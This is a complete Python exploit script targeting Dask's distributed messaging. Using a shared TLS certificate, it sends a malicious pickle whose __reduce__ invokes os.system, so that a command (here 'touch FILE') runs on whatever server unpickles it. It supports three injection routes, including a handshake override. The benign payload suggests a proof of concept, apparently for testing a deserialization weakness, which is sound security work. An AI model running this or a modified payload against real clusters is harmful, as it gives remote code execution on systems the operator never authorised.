"""A program with the class's certificate that sends what would run a command where it is unpickled.

python attacker.py ADDRESS DIR FILE HOW: HOW is call, serialize or handshake; DIR has the certificate.
"""

import asyncio
import os
import sys

from distributed.comm import connect
from distributed.protocol.serialize import Serialize, ToPickle
from distributed.security import Security


class Evil:
    """Its pickle is a command."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.file}",)


async def attack(address: str, folder: str, file: str, how: str) -> None:
    crt, key = f"{folder}/class.crt", f"{folder}/class.key"
    security = Security(require_encryption=True, tls_ca_file=crt, tls_worker_cert=crt, tls_worker_key=key)
    payload = Serialize(Evil(file)) if how == "serialize" else ToPickle(Evil(file))
    overrides = {"compression": payload} if how == "handshake" else {}
    comm = await connect(address, timeout=5, handshake_overrides=overrides, **security.get_connection_args("worker"))
    await comm.write({"op": "hello", "hello": payload})
    await comm.read()


if __name__ == "__main__":
    asyncio.run(asyncio.wait_for(attack(*sys.argv[1:]), 10))
